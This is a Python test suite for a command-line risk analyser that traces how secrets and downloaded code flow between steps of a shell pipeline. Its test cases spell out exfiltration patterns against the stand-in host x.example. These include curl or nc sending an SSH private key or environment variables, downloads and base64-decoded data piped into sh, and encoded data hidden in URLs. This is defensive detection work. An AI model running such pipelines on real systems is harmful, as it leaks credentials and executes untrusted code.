"""What flows show, in lines put together by hand: which step hands what to which, and who sends it."""

from __future__ import annotations

from autogate.effects import Effect, Kind
from autogate.invocations.interface import Line
from autogate.judgement.flows import flow_findings
from autogate.verdict import Risk
from autogate.words.values import MANY, UNKNOWN
from tests.judgement.lines import SHOP, effect, line, step

MEDIUM, HIGH, CRITICAL = Risk.MEDIUM, Risk.HIGH, Risk.CRITICAL
FAR, HERE = "https://x.example", "http://localhost:80"
KEY = effect(Kind.READ, "/home/dev/.ssh/id_rsa")
PLAIN = effect(Kind.READ, "README.md")
VARIABLE = effect(Kind.SECRET, "$API_KEY", "variable", to=UNKNOWN)
ENVIRONMENT = effect(Kind.SECRET, "the environment variables")
REDIRECTED = effect(Kind.WRITE, "x", by="redirection")
SHELL = step("sh", effect(Kind.EXECUTE, "what it reads", "shell"))

Found = tuple[str, Risk, int, str]
"""Rule, risk, step, and what the effect is about."""


def net(detail: str, what: str = FAR) -> Effect:
    return effect(Kind.NETWORK, what, detail)


SEND = step(f"curl -d @- {FAR}", net("upload"))
CAT = step("cat key", KEY)


def found(of: Line) -> list[Found]:
    """What the flows of a line show."""
    return [
        (
            each.rule,
            each.risk,
            -1 if each.step is None else each.step,
            each.effect.what if each.effect else "",
        )
        for each in flow_findings(of, SHOP)
    ]


LEAK = [("send-secret", CRITICAL, 1, FAR)]
"""The first of two steps reads a secret, which the second sends."""
TOLD = [("send-secret", HIGH, 1, FAR)]
"""The same of a variable."""


def test_what_the_network_sends_is_not_run() -> None:
    """However it was asked for; what this machine sends is less grave."""
    code = ((0, 1, "pipe"), (0, 1, "code"))
    assert {
        (detail, what): found(line(step("get", net(detail, what)), SHELL, flows=code))
        for detail in ("download", "request", "connect", "upload", "listen", "shell")
        for what in (FAR, HERE)
    } == {
        **{
            (detail, what): [("run-download", risk, 1, what)]
            for detail in ("download", "request", "connect", "upload", "listen")
            for what, risk in ((FAR, CRITICAL), (HERE, HIGH))
        },
        ("shell", FAR): [],
        ("shell", HERE): [],
    }


def test_only_what_runs_it_is_an_interpreter() -> None:
    get, show = step("get", net("download")), step("less")
    run = [("run-download", CRITICAL, 1, FAR)]
    assert found(line(get, SHELL, flows=((0, 1, "pipe"),))) == []
    assert found(line(get, SHELL, flows=((0, 1, "code"),))) == run
    assert found(line(get, show, SHELL, flows=((0, 1, "pipe"), (1, 2, "code")))) == [
        ("run-download", CRITICAL, 2, FAR)
    ]
    assert found(line(show, get, SHELL, flows=((0, 2, "code"),))) == []
    assert found(line(get, SHELL)) == []
    assert found(line(show, SHELL, flows=((0, 1, "code"),))) == []


def test_what_is_decoded_is_not_run() -> None:
    """Also where nothing on the line reaches the network."""
    decoders = (
        "base64", "base32", "basenc", "xxd", "openssl", "gpg", "rev", "tr", "uudecode", "gunzip", "zcat",
    )  # fmt: skip
    code = ((0, 1, "pipe"), (0, 1, "code"))
    assert {name: found(line(step(name), SHELL, flows=code)) for name in (*decoders, "cat", "gzip")} == {
        **{name: [("run-decoded", HIGH, 1, "")] for name in decoders},
        "cat": [],
        "gzip": [],
    }
    assert found(line(step("base64"), SHELL, flows=((0, 1, "pipe"),))) == []


def test_what_comes_back_to_a_program_is_its_own() -> None:
    round_trip = ((0, 1, "file"), (1, 0, "code"))
    assert found(line(step("sh", net("download")), step("tee"), flows=round_trip)) == []
    assert found(line(step("sh"), step("curl", net("download")), flows=round_trip)) == [
        ("run-download", CRITICAL, 0, FAR)
    ]


def test_who_sends() -> None:
    """What gives something away comes before what only asks; this machine is nobody."""
    pipe = ((0, 1, "pipe"),)
    away = {
        (net("upload"),): LEAK,
        (net("connect"),): LEAK,
        (net("shell"),): LEAK,
        (net("request"),): LEAK,
        (net("download"),): LEAK,
        (net("listen"),): [],
        (PLAIN,): [],
        **{(net(detail, HERE),): [] for detail in ("upload", "connect", "shell", "request", "download")},
        (net("request", "https://other.example"), net("upload")): LEAK,
        (net("upload", HERE), net("request")): LEAK,
        (net("request", HERE), net("download")): LEAK,
        (PLAIN, net("upload")): LEAK,
    }
    assert {effects: found(line(CAT, step("p", *effects), flows=pipe)) for effects in away} == away


def test_the_gravest_secret_that_a_step_reads() -> None:
    """A file or a whole environment comes before a variable, wherever it stands; far away is not here."""
    reads = {
        (KEY,): LEAK,
        (PLAIN,): [],
        (): [],
        (KEY._replace(remote="host h"),): [],
        (KEY._replace(kind=Kind.WRITE),): [],
        (VARIABLE,): TOLD,
        (VARIABLE, KEY): LEAK,
        (PLAIN, VARIABLE, PLAIN): TOLD,
        (VARIABLE, ENVIRONMENT): LEAK,
        (ENVIRONMENT, VARIABLE): LEAK,
        (VARIABLE._replace(kind=Kind.CHANGE),): [],
    }
    pipe = ((0, 1, "pipe"),)
    assert {effects: found(line(step("p", *effects), SEND, flows=pipe)) for effects in reads} == reads


def test_programs_that_print_environments_when_called_so() -> None:
    prints = {
        "ps e": True, "ps auxe": True, "ps -E": True, "ps E": True, "ps": False, "ps -e": False,
        "ps aux": False, "ps aux e": False, "ps -p E": False,
        "systemctl show-environment": True, "systemctl --user show-environment": True,
        "systemctl show": False,
        "tmux showenv": True, "tmux show-environment": True, "tmux ls": False,
        "launchctl export": True, "launchctl list": False,
        "make -p": True, "make -pn": True, "make -np": True, "make --print-data-base": True, "make -n": False,
        "make x -p": True, "gmake -p": True, "gmake p": False,
        "git config user.token": True, "git config -l": False, "git config user.Password": True,
        "git config a.secret": True, "git config http.extraheader": True, "git show token": False,
        "docker inspect c": True, "podman inspect c": True, "docker ps": False, "podman ps": False,
        "other inspect show-environment -p config token e": False,
    }  # fmt: skip
    pipe = ((0, 1, "pipe"),)
    assert {words: bool(found(line(step(words), SEND, flows=pipe))) for words in prints} == prints
    assert found(line(step("docker inspect c", VARIABLE), SEND, flows=pipe)) == LEAK


def test_where_a_secret_goes_is_said() -> None:
    for what, where in ((FAR, FAR), ("", "the network")):
        (finding,) = flow_findings(line(CAT, step("nc", net("upload", what)), flows=((0, 1, "pipe"),)), SHOP)
        assert finding.reason == f"sends what cat reads, a secret, to {where}"
        (finding,) = flow_findings(
            line(step("echo", VARIABLE), step("nc", net("upload", what)), flows=((0, 1, "pipe"),)), SHOP
        )
        assert finding.reason == f"sends $API_KEY, a secret by its name, to {where}"


def test_an_encoder_before_an_address() -> None:
    """What is encoded is hidden where it becomes a part of the address."""
    into = step("curl", net("download", f"{FAR}/{UNKNOWN}"))
    encoders = ("base64", "gbase64", "base32", "basenc", "xxd", "od", "hexdump", "gzip", "zstd", "xz")
    flows = ((0, 1, "argument"),)
    assert {name: found(line(step(name, PLAIN), into, flows=flows)) for name in (*encoders, "cat")} == {
        **{name: [("send-encoded", MEDIUM, 1, f"{FAR}/{UNKNOWN}")] for name in encoders},
        "cat": [],
    }
    assert found(line(step("base64", PLAIN), SEND, flows=flows)) == []
    both = found(line(step("base64", KEY), into, flows=flows))
    assert [each[0] for each in both] == ["send-encoded", "send-secret"]
    (finding,) = flow_findings(line(step("base64", PLAIN), into, flows=flows), SHOP)
    assert (finding.uncertain, finding.span) == (True, (0, 0))


def test_a_login_gets_a_variable_and_no_more() -> None:
    pipe = ((0, 1, "pipe"),)
    logins = {"login": [], "--with-token": [], "--password-stdin": [], "signin": [], "logout": TOLD}
    for word, expected in logins.items():
        enters = step(f"gh {word}", net("upload"))
        assert found(line(step("echo", VARIABLE), enters, flows=pipe)) == expected
        assert found(line(CAT, enters, flows=pipe)) == LEAK


def test_a_secret_goes_as_far_as_its_data() -> None:
    other = step("tee")
    assert found(line(CAT, other, SEND, flows=((0, 1, "pipe"), (1, 2, "pipe")))) == [
        ("send-secret", CRITICAL, 2, FAR)
    ]
    assert found(line(CAT, other, SEND, flows=((0, 1, "pipe"),))) == []
    assert found(line(CAT, SEND)) == []
    assert (
        found(line(CAT, CAT, SEND, flows=((0, 2, "pipe"), (1, 2, "file"))))
        == [("send-secret", CRITICAL, 2, FAR)] * 2
    )
    # a ring of files ends somewhere
    ring = ((0, 1, "file"), (1, 2, "file"), (2, 1, "file"), (2, 3, "file"))
    assert found(line(CAT, other, other, SEND, flows=ring)) == [("send-secret", CRITICAL, 3, FAR)]


def test_what_a_wrapper_started_is_what_it_prints() -> None:
    """Where its output goes on: by a redirection of the wrapper's, or to another step."""
    sends = step("bash -c x", REDIRECTED, net("upload"))
    quiet = step("bash -c x", net("upload"))
    here = [("send-secret", CRITICAL, 0, FAR)]
    inner = step("cat", KEY, depth=1)
    assert found(line(sends, inner)) == here
    assert found(line(quiet, inner)) == []
    assert found(line(quiet, step("cat", KEY, REDIRECTED, depth=1))) == []
    assert found(line(sends, step("cat", KEY))) == []
    assert found(line(sends, step("cat", KEY, depth=1, remote="host h"))) == []
    assert found(line(sends, step("env", depth=1), step("cat", KEY, depth=2))) == here
    assert found(line(quiet, step("env", depth=1), step("cat", KEY, depth=2))) == []
    assert found(line(sends, step("ls", depth=1), inner)) == here
    assert found(line(sends, step("ls"), inner)) == []
    assert found(line(step("bash"), inner, SEND, flows=((0, 2, "argument"),))) == [
        ("send-secret", CRITICAL, 2, FAR)
    ]
    assert found(line(step("bash"), inner, SEND, flows=((1, 0, "pipe"),))) == []
    # nothing that a wrapper started is run because the wrapper's own output is
    started = step("curl", net("download"), depth=1)
    assert found(line(step("timeout 5"), started, SHELL, flows=((0, 2, "code"),))) == []


def test_one_program_that_reads_a_secret_and_sends_it() -> None:
    once = [("send-secret", CRITICAL, 0, FAR)]
    assert found(line(step("curl", KEY, net("upload")))) == once
    assert found(line(step("curl", KEY, net("connect")))) == once
    assert found(line(step("curl", KEY, net("shell")))) == once
    assert found(line(step("curl", KEY, net("download")))) == []
    assert found(line(step("curl", KEY, net("upload", HERE)))) == []
    assert found(line(step("curl", PLAIN, net("upload")))) == []
    assert found(line(step("curl", KEY, net("download"), net("upload", f"{FAR}/2")))) == [
        ("send-secret", CRITICAL, 0, f"{FAR}/2")
    ]
    # nothing is said twice, and what comes later is looked at, too
    address = f"{FAR}/{UNKNOWN}"
    word = VARIABLE._replace(to=UNKNOWN)
    assert found(line(step("curl", KEY, word, net("upload", address)), step("curl", KEY, net("upload")))) == [
        ("send-secret", CRITICAL, 0, address),
        ("send-secret", CRITICAL, 1, FAR),
    ]
    assert found(line(step("ls"), step("curl", KEY, net("upload")))) == [("send-secret", CRITICAL, 1, FAR)]


def test_what_is_redirected_into_a_wrapper_is_read_by_what_it_starts() -> None:
    """What the wrapper reads itself is not."""
    handed = KEY._replace(by="redirection")
    sends = step("curl", net("upload"), depth=1)
    assert found(line(step("sudo", handed), sends)) == [("send-secret", CRITICAL, 1, FAR)]
    assert found(line(step("sudo", KEY), sends)) == []
    assert found(line(step("sudo", handed), step("curl", net("upload")))) == []
    assert found(line(step("sudo", handed), step("curl", net("download"), depth=1))) == []
    assert found(line(step("sudo", handed), step("env", depth=1), sends._replace(
        invocation=sends.invocation._replace(depth=2)))) == [("send-secret", CRITICAL, 2, FAR)]  # fmt: skip


def test_a_variable_in_an_address() -> None:
    """Whoever the host is, and whichever program it is; the first is named."""
    address = f"{FAR}/{UNKNOWN}"
    once = [("send-secret", HIGH, 0, address)]
    asks = net("download", address)
    other = net("download", f"https://y.example/{UNKNOWN}")
    variable = VARIABLE._replace(to=f"{UNKNOWN}")
    cases = {
        (variable, asks): once,
        (variable, variable, asks): once,
        (variable._replace(to=address), asks): once,
        (variable._replace(to=f"--url={address}"), asks): once,
        (variable._replace(to="-v"), asks): [],
        (variable._replace(to=""), asks): [],
        (variable, net("download", FAR)): [],
        (variable._replace(to=FAR), net("download", FAR)): [],
        (variable, net("download", f"{HERE}/{UNKNOWN}")): [],
        (variable._replace(to=f"/{UNKNOWN}"), net("download", FAR), asks): once,
        (variable._replace(to=address), other, asks): once,
        (asks,): [],
        (ENVIRONMENT._replace(to=UNKNOWN), asks): [],
    }
    assert {effects: found(line(step("p", *effects))) for effects in cases} == cases
    assert found(line(step("sudo", variable), step("curl", asks, depth=1))) == [
        ("send-secret", HIGH, 1, address)
    ]
    assert found(line(step("sudo", variable), step("curl", asks))) == []


def test_what_a_web_client_sends_beside_its_login() -> None:
    """``@`` stands for the variable in the words of the program."""
    sent = {
        "curl -d @ x": True,
        "curl -A @ x": True,
        "xh -A @ x": False,
        "curl -H X-Data:@ x": True,
        "curl --header X-Data:@ x": True,
        "curl -H Authorization:@ x": False,
        "curl -e @ x": True,
        **{f"curl {option} @ x": False for option in (
            "-u", "--user", "-b", "--cookie", "--oauth2-bearer", "-a", "--auth", "--token", "--password",
            "--http-password", "--http-user", "--proxy-user", "-U", "--bearer")},
        **{f"curl {option}=@ x": False for option in ("--user", "--cookie", "--token", "--password")},
        **{f"curl -H {name}:@ x": False for name in (
            "Authorization", "X-Token", "Api-Key", "X-Secret", "Cookie", "Session", "Credential", "Signature",
            "Password", "Bearer")},
        "curl --data=@ x": True,
        "curl data=@ x": True,
        "curl -d token:@ x": False,
        "curl -d a:@:token x": True,
        "curl --header=X-Data:@ x": True,
        "curl --header=Api-Key:@ x": False,
        "curl x": False,
        **{f"{name} -d @ x": True for name in (
            "curl", "wget", "wget2", "http", "https", "xh", "xhs", "curlie", "aria2c", "whois")},
        "dig -d @ x": False,
        "mysql -p @ x": False,
    }  # fmt: skip
    answers = {}
    for words in sent:
        argv = words.replace("@", UNKNOWN)
        word = next((each for each in argv.split(" ") if UNKNOWN in each), UNKNOWN)
        client = step(argv, VARIABLE._replace(to=word), net("request"))
        answers[words] = found(line(client)) == [("send-secret", HIGH, 0, FAR)]
    assert answers == sent
    # the first address is the one that gets it
    word = VARIABLE._replace(to=UNKNOWN)
    two = step(f"curl -d {UNKNOWN} x", word, net("request"), net("request", "https://y.example"))
    assert found(line(two)) == [("send-secret", HIGH, 0, FAR)]


def test_a_variable_that_is_handed_on_to_what_sends() -> None:
    """By the programs that start others with words of their own; a name server is asked without saying so."""
    asks = step("curl", net("download", f"{FAR}/{MANY}"), depth=1)
    late = step("ls", effect(Kind.READ, UNKNOWN), depth=1)
    sent = ("send-secret", HIGH, 1, f"{FAR}/{MANY}")
    held = VARIABLE._replace(to=MANY)
    assert {
        name: found(line(step(name, held), late._replace(effects=()), asks))[:1]
        for name in ("xargs", "gxargs", "parallel", "env", "getent")
    } == {
        **{name: [(*sent[:2], 2, sent[3])] for name in ("xargs", "gxargs", "parallel", "env")},
        "getent": [("send-secret", HIGH, 0, "the name servers")],
    }
    bare = step("curl", net("download", f"{UNKNOWN}.x.example"))
    told = [("send-secret", HIGH, 2, f"{UNKNOWN}.x.example")]
    apart: dict[str, list[Found]] = {"xargs": told, "gxargs": told, "parallel": told, "env": []}
    assert {name: found(line(step(name, held), late, bare)) for name in apart} == apart
    assert found(line(step("getent hosts x", held))) == [("send-secret", HIGH, 0, "the name servers")]
    (asked,) = flow_findings(line(step("getent hosts x", held)), SHOP)
    assert asked.effect == Effect(Kind.NETWORK, "the name servers", "request")
    assert found(line(step("getent hosts x"))) == []
    assert found(line(step("host x", held))) == []
    assert found(line(step("xargs"), bare)) == []
    assert found(line(bare, step("xargs", held))) == []
    assert found(line(step("xargs", held), step("curl", net("download")))) == []
    assert found(line(step("xargs", held), step("curl", net("download", f"{HERE}/{UNKNOWN}")))) == []
    assert found(line(step("xargs", held), bare, bare)) == [("send-secret", HIGH, 1, f"{UNKNOWN}.x.example")]


def test_a_key_is_read_to_log_in_and_copied_only_as_a_word() -> None:
    key = KEY.what
    once = [("send-secret", CRITICAL, 0, "h")]
    env = effect(Kind.READ, ".env")
    cases = {
        **{f"{name} {key} h": [] for name in ("ssh", "sftp", "mosh", "autossh", "ssh-copy-id", "git")},
        **{f"{name} {key} h:": once for name in ("scp", "rsync", "nc")},
        f"scp -i {key} h:": [],
        f"scp -F {key} h:": [],
        f"scp -o {key} h:": once,
        "scp README.md h:": [],
        "rsync -e ssh h:": [],
        f"nc -i {key} h": once,
    }
    assert {words: found(line(step(words, KEY, net("upload", "h")))) for words in cases} == cases
    assert found(line(step("scp .env h:", env, net("upload", "h")))) == []
    assert found(line(step("nc .env h:", env, net("upload", "h")))) == once
    assert found(line(step(f"scp {key} h:", ENVIRONMENT._replace(what=key), net("upload", "h")))) == []
    assert found(line(step(f"scp .env {key} h:", env, KEY, net("upload", "h")))) == once
